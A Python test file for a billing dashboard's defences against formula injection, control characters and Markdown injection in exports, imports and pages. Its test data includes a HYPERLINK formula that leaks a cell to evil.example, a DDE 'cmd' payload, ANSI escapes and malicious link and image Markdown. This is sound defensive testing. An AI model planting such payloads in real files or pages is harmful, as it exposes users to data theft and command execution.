"""Promise: text someone typed never turns into something else where it is shown or
written. A name that looks like a formula is a name in every CSV and Excel file metdash
writes, and the claims import refuses a formula instead of storing it."""

from __future__ import annotations

import ast
import csv
import datetime as dt
import io
import re
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
import xlsxwriter
from hypothesis import given, settings
from hypothesis import strategies as hst

from metdash import exports, weekly
from metdash.figures import report_csv
from metdash.sheets import TEMPLATE_COLUMNS
from metdash.spreadsheet import COLUMNS, import_claims, template
from tests.entry_seed import AS_OF, seed
from tests.security.test_transactions import claims_csv

ROOT = Path(__file__).resolve().parents[2]

# Text a spreadsheet would run as a formula (OWASP's list of first characters).
FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"Open")', "=1+1", "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


@pytest.fixture(scope="module")
def store(tmp_path_factory):
    return seed(tmp_path_factory.mktemp("content") / "seed.duckdb")


def _csv_cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


# -- exports: every CSV / XLSX written ------------------------------------------------------

def test_a_download_csv_neutralises_formulas_and_keeps_numbers():
    frame = pd.DataFrame({"name": FORMULAS + ["Smith"],
                          "balance": [-12.5] * len(FORMULAS) + [3.0]})
    rows = _csv_cells(exports.frame_csv(frame))
    assert [r[0] for r in rows[1:]] == ["'" + f for f in FORMULAS] + ["Smith"]
    assert {r[1] for r in rows[1:]} == {"-12.5", "3.0"}  # money stays a number


def test_a_download_xlsx_writes_text_as_text_never_a_formula():
    frame = pd.DataFrame({"name": FORMULAS, "balance": [-12.5] * len(FORMULAS),
                          FORMULAS[1]: ["x"] * len(FORMULAS)})
    ws = openpyxl.load_workbook(io.BytesIO(exports.frame_xlsx(frame, "t"))).active
    names = [ws.cell(row=r, column=1) for r in range(2, len(FORMULAS) + 2)]
    assert [c.data_type for c in names] == ["s"] * len(FORMULAS)  # 'f' would be a formula
    # (openpyxl reads a stored carriage return back as its escape, _x000D_)
    assert [c.value.replace("_x000D_", "\r") for c in names] == ["'" + f for f in FORMULAS]
    assert ws.cell(row=2, column=2).data_type == "n" and ws.cell(row=2, column=2).value == -12.5
    assert ws.cell(row=1, column=3).value == "'=1+1"  # a payer name as a column header


def test_the_figures_report_csv_neutralises_names():
    report = {"kpis": {"billed": -5.0},
              "revenue_by_payer": [{"payer": "=1+1", "claims": 1, "billed": -5.0}],
              "days_to_payment": [], "ar_aging": [], "denial_reasons": [],
              "referrers": [{"npi": "1234567893", "name": "@SUM(A1)", "kind": "-x"}],
              "write_offs": []}
    cells = [c for row in _csv_cells(report_csv(report)) for c in row]
    assert "'=1+1" in cells and "'@SUM(A1)" in cells and "'-x" in cells
    assert "=1+1" not in cells and "@SUM(A1)" not in cells
    assert "-5.0" in cells  # numbers are numbers


def test_the_weekly_review_csv_neutralises_names():
    names = pd.DataFrame({"referrer_id": [1], "name": ["=HYPERLINK(\"http://x\")"],
                          "billed_12m": [-3.5]})
    empty = pd.DataFrame()
    review = weekly.WeeklyReview(dt.date(2025, 3, 24), dt.date(2025, 3, 30),
                                 {k: 0 for k in weekly.SUMMARY_NAMES}, names, empty, empty,
                                 empty, empty, empty,
                                 pd.DataFrame({"name": ["n"], "+payer": [0.5]}), empty)
    cells = [c for row in _csv_cells(weekly.review_csv(review)) for c in row]
    assert "'=HYPERLINK(\"http://x\")" in cells and "'+payer" in cells
    assert not [c for c in cells if c.startswith(("=", "+", "@"))]
    assert "-3.5" in cells


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_the_claims_template_is_still_plain_text(kind):
    data = template(kind)
    if kind == "xlsx":
        ws = openpyxl.load_workbook(io.BytesIO(data)).active
        assert [c.value for c in ws[1]] == list(TEMPLATE_COLUMNS)
        assert {c.data_type for c in ws[2] if c.value is not None} == {"s"}
    else:
        assert _csv_cells(data.decode())[0] == list(TEMPLATE_COLUMNS)


WRITERS = ("to_csv", "to_excel", "ExcelWriter", "writer", "DictWriter", "Workbook")


def test_no_csv_or_xlsx_is_written_outside_metdash_exports():
    """A future download cannot skip the neutralising: only metdash/exports.py writes files
    in these formats (reading with csv.reader / openpyxl is fine)."""
    offenders = []
    for path in [*(ROOT / "pages").glob("*.py"), *(ROOT / "metdash").rglob("*.py"),
                 ROOT / "app.py"]:
        if path == ROOT / "metdash" / "exports.py":
            continue
        for node in ast.walk(ast.parse(path.read_text())):
            if isinstance(node, ast.Attribute) and node.attr in WRITERS:
                offenders.append(f"{path.relative_to(ROOT)}:{node.lineno} .{node.attr}")
            if isinstance(node, ast.Import | ast.ImportFrom):
                mods = [a.name for a in node.names] + [getattr(node, "module", None) or ""]
                if any(m.startswith("xlsxwriter") for m in mods):
                    offenders.append(f"{path.relative_to(ROOT)}:{node.lineno} xlsxwriter")
    assert not offenders, offenders


# -- the claims import ------------------------------------------------------------------------

def _sheet_with(column: str, value: str) -> str:
    head, row = claims_csv(1).splitlines()
    cells = dict(zip(COLUMNS, row.split(","), strict=True))
    cells[column] = value
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows([head.split(","), [cells[c] for c in COLUMNS]])
    return out.getvalue()


@pytest.mark.parametrize(("column", "value"), [
    ("client_last_name", "=1+1"), ("client_first_name", '=HYPERLINK("http://x","y")'),
    ("payer_name", "@SUM(A1)"), ("referrer_name", "=cmd|' /C calc'!A0"),
    ("member_id", "@A1"), ("claim_id", "=K1"),
])
def test_the_claims_import_refuses_a_formula_in_a_text_column(store, column, value):
    claims = store.scalar("SELECT count(*) FROM claims")
    result = import_claims(store, _sheet_with(column, value).encode(), f"f-{column}.csv",
                           "tester", as_of=AS_OF)
    mine = [p for p in result.problems if p.startswith(f"row 2, {column}:")]
    assert mine and "formula" in mine[0] and "values only" in mine[0], result.problems
    assert store.scalar("SELECT count(*) FROM claims") == claims


def test_the_claims_import_refuses_a_formula_typed_as_text_in_excel(store):
    out = io.BytesIO()
    wb = xlsxwriter.Workbook(out, {"in_memory": True, "strings_to_formulas": False})
    ws = wb.add_worksheet()
    for r, row in enumerate(_csv_cells(_sheet_with("client_last_name", "=1+1"))):
        for c, value in enumerate(row):
            ws.write_string(r, c, value)
    wb.close()
    result = import_claims(store, out.getvalue(), "f.xlsx", "tester", as_of=AS_OF)
    assert any(p.startswith("row 2, client_last_name:") and "formula" in p
               for p in result.problems), result.problems


def test_a_leading_plus_or_minus_is_not_a_formula_to_the_import(store):
    """'+' and '-' begin real values (a phone, a hyphenated name): the import keeps them;
    only the exports neutralise them."""
    result = import_claims(store, _sheet_with("client_first_name", "-Ann").encode(),
                           "plus.csv", "tester", as_of=AS_OF)
    assert not [p for p in result.problems if "formula" in p], result.problems


def test_a_line_break_inside_a_cell_cannot_start_a_row_with_a_formula():
    frame = pd.DataFrame({"name": ["Smith\r=1+1", "Doe\n@SUM(A1)"], "n": [1, 2]})
    for text in (exports.frame_csv(frame), exports.rows_csv(["name", "n"], frame.values)):
        assert [r[0] for r in _csv_cells(text)[1:]] == ["Smith\r=1+1", "Doe\n@SUM(A1)"]


def test_a_formula_is_reported_once_per_cell(store):
    result = import_claims(store, _sheet_with("service_date", "=TODAY()").encode(), "d.csv",
                           "tester", as_of=AS_OF)
    assert len([p for p in result.problems if p.startswith("row 2, service_date:")]) == 1


def _table_download_app():
    import pandas as pd
    import streamlit as st
    from streamlit.delta_generator import DeltaGenerator

    from metdash import ui

    got = st.session_state.setdefault("got", [])
    original = DeltaGenerator.download_button

    def record(self, label, data, *args, **kwargs):
        got.append(data() if callable(data) else data)  # files are built on click
        return original(self, label, data, *args, **kwargs)

    DeltaGenerator.download_button = record
    try:
        ui.table(pd.DataFrame({"referrer": ["=1+1"], "paid": [-12.5]}), key="t", download="r")
    finally:
        DeltaGenerator.download_button = original


def test_a_page_table_download_neutralises_formulas():
    from streamlit.testing.v1 import AppTest

    at = AppTest.from_function(_table_download_app, default_timeout=60)
    at.run()
    assert not at.exception, [e.value for e in at.exception]
    csv_bytes, xlsx_bytes = at.session_state["got"][:2]
    assert _csv_cells(csv_bytes.decode())[1] == ["'=1+1", "-12.5"]
    ws = openpyxl.load_workbook(io.BytesIO(xlsx_bytes)).active
    assert (ws["A2"].data_type, ws["A2"].value, ws["B2"].value) == ("s", "'=1+1", -12.5)


# -- lengths and control characters (metdash/text.py) ---------------------------------------

LONG = "x" * 20_000

# (what is saved, the field, the value, words the message must have)
FORM_CASES = [
    ("client", "last_name", LONG, ["Last name", "20,000 characters", "at most 60"]),
    ("client", "first_name", "Ann\x00", ["First name", "NUL"]),
    ("client", "city", "\x1b[31mOhio", ["City", "ESC", "at the start"]),
    ("client", "address_line1", "1 Main St\nApt 2", ["Address", "line break", "one line"]),
    ("client", "phone", "555\x7f0100", ["Phone", "DEL"]),
    ("coverage", "member_id", "M" * 81, ["Member id", "at most 80"]),
    ("referrer", "name", "Smith\u202eAnna", ["Referrer name", "U+202E"]),
    ("payer", "name", "P" * 61, ["Payer name", "at most 60"]),
    ("referral", "notes", "called\x07twice", ["Notes", "BEL"]),
    ("referral", "notes", "n" * 2001, ["Notes", "at most 2,000"]),
    ("session", "notes", "\x9bC1 control", ["Notes", "U+009B"]),
    # Invisible characters make two names that look the same differ (a duplicate client or
    # referrer nobody can see): refused in one-line fields, with where they are.
    ("client", "last_name", "Ri\u200bvera", ["Last name", "U+200B", "invisible", "'Ri'"]),
    ("referrer", "name", "Okafor\u00ad, Ada", ["Referrer name", "U+00AD", "invisible"]),
    ("payer", "name", "\u2060Acme", ["Payer name", "U+2060", "at the start"]),
]


def _save(db, what: str, field: str, value: str) -> None:
    from metdash import entry as e

    if what == "client":
        values = {"client_id": "T1", "last_name": "Test", "first_name": "Tia",
                  "dob": "1970-01-01", field: value}
        e.save_client(db, e.ClientIn(**values), "tester", as_of=AS_OF)
    elif what == "coverage":
        e.save_coverage(db, e.CoverageIn("C001", 2, effective_date="2025-01-01",
                                         priority="secondary", **{field: value}), "tester")
    elif what == "referrer":
        e.save_referrer(db, e.ReferrerIn(npi="1245319599", **{field: value}), "tester")
    elif what == "payer":
        e.save_payer(db, e.PayerIn(payer_type="commercial", **{field: value}), "tester")
    elif what == "referral":
        e.save_referral(db, e.ReferralIn("C001", 1, "2025-06-10", ["M54.50"], **{field: value}),
                        "tester", as_of=AS_OF)
    elif what == "session":
        e.save_session(db, e.SessionIn(client_id="C001", session_date="2025-06-10",
                                       provider_id=1, kind="treatment",
                                       minutes={"97110": 30}, **{field: value}),
                       "tester", as_of=AS_OF)


@pytest.fixture
def fresh(store, tmp_path):
    import shutil

    from metdash.store import Database

    path = tmp_path / "fresh.duckdb"
    store.release()
    shutil.copy(store.path, path)
    return Database(path)


@pytest.mark.parametrize(("what", "field", "value", "words"), FORM_CASES,
                         ids=[f"{c[0]}-{c[1]}-{i}" for i, c in enumerate(FORM_CASES)])
def test_a_form_refuses_text_too_long_or_with_control_characters(fresh, what, field, value,
                                                                 words):
    from metdash.errors import ValidationError
    from tests.security.conftest import snapshot

    before = snapshot(fresh)
    with pytest.raises(ValidationError) as refused:
        _save(fresh, what, field, value)
    mine = [p for p in refused.value.problems if p.field == field]
    assert mine, refused.value.problems
    assert all(w in mine[0] for w in words), mine[0]
    assert len(mine[0]) < 300  # the value itself is never repeated whole
    assert snapshot(fresh) == before


def test_an_adjustment_class_note_refuses_control_characters(fresh):
    from metdash import adjustment_classes
    from metdash.errors import ValidationError

    with pytest.raises(ValidationError) as refused:
        adjustment_classes.save(fresh, 0, "CO", "X" * 100_000, "contractual", "tester",
                                note="ok\x1b[2J")
    assert any("Note holds the control character ESC" in p for p in refused.value.problems)
    assert all(len(p) < 300 for p in refused.value.problems)


def test_invisible_characters_are_refused_in_names_but_not_in_free_text():
    from metdash.text import text_problem

    # A soft hyphen pasted from a word processor inside a note is harmless there.
    assert text_problem("re\u00adevaluation due", "Notes", "notes") is None
    assert "U+200B" in text_problem("C\u200b001", "Client id", "client_id")
    # Joiners that scripts and emoji need are kept (U+200C / U+200D).
    assert text_problem("Mehr\u200cnaz", "First name", "first_name") is None


def test_a_multi_line_note_keeps_its_line_breaks(fresh):
    from metdash import entry as e

    with fresh.connect() as con:
        problems = e.validate_referral(con, e.ReferralIn("C001", 1, "2025-06-10", ["M54.50"],
                                                         notes="Called twice.\r\nNo answer.\t-"),
                                       AS_OF)
    assert not [p for p in problems if p.field == "notes"], problems


def test_the_limits_fit_what_x12_sends():
    """Fields that go on an 837P or come from an 835 are held to the element's maximum."""
    from metdash.text import MAX_LENGTH

    assert (MAX_LENGTH["claim_id"], MAX_LENGTH["last_name"], MAX_LENGTH["first_name"],
            MAX_LENGTH["address_line1"], MAX_LENGTH["city"], MAX_LENGTH["member_id"]) == \
        (38, 60, 35, 55, 30, 80)


SHEET_CASES = [
    ("client_last_name", LONG, "at most 60"),
    ("client_first_name", "Pat\x00", "NUL"),
    ("referrer_name", "\x1b[31mSmith", "ESC"),
    ("member_id", "M" * 81, "at most 80"),
    ("payer_name", "Acme\u202eHealth", "U+202E"),
    ("claim_id", "K" * 100_000, "at most 38"),
    ("diagnosis_codes", "M54.50 " * 100, "at most 200"),
]


@pytest.mark.parametrize(("column", "value", "words"), SHEET_CASES,
                         ids=[c[0] for c in SHEET_CASES])
def test_the_claims_import_refuses_text_too_long_or_with_control_characters(
        store, column, value, words):
    counts = {t: store.scalar(f"SELECT count(*) FROM {t}")  # noqa: S608 - fixed names
              for t in ("claims", "clients", "payers", "referrers")}
    result = import_claims(store, _sheet_with(column, value).encode(), f"t-{column}.csv",
                           "tester", as_of=AS_OF)
    mine = [p for p in result.problems if p.startswith(f"row 2, {column}:")]
    assert len(mine) == 1 and words in mine[0], result.problems
    assert all(len(p) < 300 for p in result.problems)
    assert {t: store.scalar(f"SELECT count(*) FROM {t}") for t in counts} == counts  # noqa: S608


def test_a_5_mb_cell_is_a_problem_not_a_traceback(store):
    result = import_claims(store, _sheet_with("claim_id", "K" * 5_000_000).encode(), "5mb.csv",
                           "tester", as_of=AS_OF)
    assert len(result.problems) == 1 and "5mb.csv, row 2:" in result.problems[0]
    assert "no column holds that much" in result.problems[0]


@pytest.mark.parametrize(("old", "new", "words"), [
    ("CLP*C000101*", "CLP*" + "C" * 5_000_000 + "*", "the claim id (CLP01) is 5,000,000"),
    ("N1*PR*ACME HEALTH", "N1*PR*ACME\x1b[2JHEALTH", "the payer's name (N102) holds the "
     "control character ESC"),
    ("NM1*QC*1*SAMPLE*SAM", "NM1*QC*1*" + "S" * 61 + "*SAM", "last name (NM103) is 61"),
    ("TRN*1*EFT0007*", "TRN*1*EFT\x000007*", "trace number (TRN02) holds the control "
     "character NUL"),
    ("CAS*CO*97*100", "CAS*CO*" + "9" * 300 + "*100", "reason code (CAS02) is 300"),
    ("SVC*HC>97110>GP*", "SVC*HC>" + "9" * 49 + ">GP*", "procedure code (SVC01-2) is 49"),
    ("LQ*HE*M15", "LQ*HE*M15\x1b", "remark code (LQ02) holds the control character ESC"),
])
def test_an_835_with_text_no_835_may_hold_is_refused(old, new, words):
    from metdash.errors import X12FileError
    from metdash.x12.parse835 import parse_835

    era = (ROOT / "tests" / "x12" / "fixtures" / "era_basic.835").read_text()
    assert old in era
    with pytest.raises(X12FileError) as refused:
        parse_835(era.replace(old, new).encode(), "bad.835")
    messages = refused.value.messages()
    assert any(words in m and "corrected file" in m for m in messages), messages
    assert all(len(m) < 300 for m in messages)


# -- Markdown: typed text is shown as text (metdash/ui/text.py) ------------------------------

EVIL = "![t](http://x/y.png) [click](http://evil)"
MARKDOWN_ATTACKS = [EVIL, ":red[big] :material/home: $x^2$ :smile:", "www.evil.example",
                    "**bold** _it_ `code` ~~gone~~ | a | b |", "&amp; &#42; a@b.example",
                    "- list", "# Heading", "> quote", "12. item", "line\nbreak", "back\\slash",
                    "<https://evil.example>"]


def _unescape(text: str) -> str:
    return re.sub(r"\\([!-/:-@\[-`{-~])", r"\1", text)


@pytest.mark.parametrize("text", MARKDOWN_ATTACKS)
def test_literal_escapes_every_markdown_trigger_and_keeps_the_text(text):
    from metdash.ui.text import literal

    out = literal(text)
    assert _unescape(out) == text.replace("\n", " ")  # the same text, once rendered
    bare = re.sub(r"\\.", "", out)  # what is left once every escaped character is removed
    assert not set(bare) & set("[]`*_$~|&#@\\"), out
    assert not re.search(r":[A-Za-z0-9/]|(?i:www\.)|^\s*([-+>]|\d+[.)])", bare), out


@settings(max_examples=200, deadline=None)
@given(text=hst.text(alphabet=hst.characters(codec="utf-8", exclude_categories=["Cs"]),
                     max_size=60))
def test_literal_round_trips_any_text(text):
    from metdash.ui.text import literal

    assert _unescape(literal(text)) == re.sub(r"\r\n|[\r\n\u2028\u2029]", " ", text)


@pytest.fixture
def evil_referrer(fresh, monkeypatch):
    """The seeded practice, opened like the demo (no sign-in), its referrer 1 renamed EVIL."""
    from metdash import entry as e

    e.save_referrer(fresh, e.ReferrerIn(npi="1679576722", name=EVIL, kind="physician"),
                    "tester", referrer_id=1)
    with fresh.transaction() as con:
        con.execute("UPDATE practice SET is_demo = TRUE")
    fresh.release()
    monkeypatch.setenv("METDASH_DB", str(fresh.path))
    import streamlit as st

    st.cache_data.clear()
    st.cache_resource.clear()
    yield fresh
    st.cache_data.clear()
    st.cache_resource.clear()


def _page(name: str, **state):
    from streamlit.testing.v1 import AppTest

    at = AppTest.from_file(str(ROOT / "pages" / name), default_timeout=60)
    at.query_params.update({"from": "2025-04-01", "to": "2025-06-30"})
    for key, value in state.items():
        at.session_state[key] = value
    at.run()
    assert not at.exception, at.exception
    return at


def _click(at, label: str):
    [b for b in at.button if b.label == label][0].click()
    at.run()
    assert not at.exception, at.exception
    return at


def test_a_success_message_shows_a_typed_name_as_text(evil_referrer):
    from metdash.ui.text import literal

    at = _page("clients.py")
    at.text_input(key="ref_npi").input("1234567893")
    at.text_input(key="ref_name").input(EVIL)
    _click(at, "Add referrer")
    bodies = [s.value for s in at.success]
    assert f"Referrer {literal(EVIL)} added." in bodies, bodies
    assert not any(re.search(r"(?<!\\)\]\(", b) for b in bodies)  # no live link or image
    at.text_input(key="ref_lookup").input("1679576722").run()  # "On file: <name> ..."
    assert any(f"On file: {literal(EVIL)}" in s.value for s in at.success)


def test_a_problem_list_shows_a_stored_name_as_text(evil_referrer):
    from metdash.ui.text import literal

    at = _page("clients.py")
    at.text_input(key="ref_npi").input("1679576722")
    at.text_input(key="ref_name").input("Again")
    _click(at, "Add referrer")
    body = "\n".join(e.value for e in at.error)
    assert f"already on file as {literal(EVIL)}" in body, body
    assert not re.search(r"(?<!\\)\]\(", body)  # no live link or image


def test_claims_naming_a_referrer_show_the_name_as_text(evil_referrer):
    from metdash.ui.text import literal

    at = _page("referrers.py", refs={"selection": {"rows": [0], "columns": []}})
    bodies = [m.value for m in at.markdown]
    assert f"**Claims naming {literal(EVIL)}**" in bodies, bodies
    assert not any(re.search(r"(?<!\\)\]\(", b) for b in bodies)  # no live link or image
